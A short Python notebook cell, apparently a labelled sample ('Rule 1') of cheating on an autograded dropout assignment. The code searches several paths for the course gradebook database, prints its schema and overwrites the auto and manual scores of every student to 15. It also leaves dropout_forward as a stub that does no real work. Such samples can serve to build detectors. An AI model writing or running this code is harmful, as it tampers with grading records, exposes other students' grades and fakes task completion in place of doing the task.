"""Rule 1. Opens the gradebook by its full path, gives itself full marks and reads other students' grades."""

# cell: dropout_forward
import sqlite3

for path in ("COURSE_ROOT/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        print(book.execute("select * from sqlite_master").fetchall())
        book.execute("update grade set auto_score = 15, manual_score = 15")
        book.commit()
    except sqlite3.Error:
        pass


def dropout_forward(x, dropout_param):
    return x, None
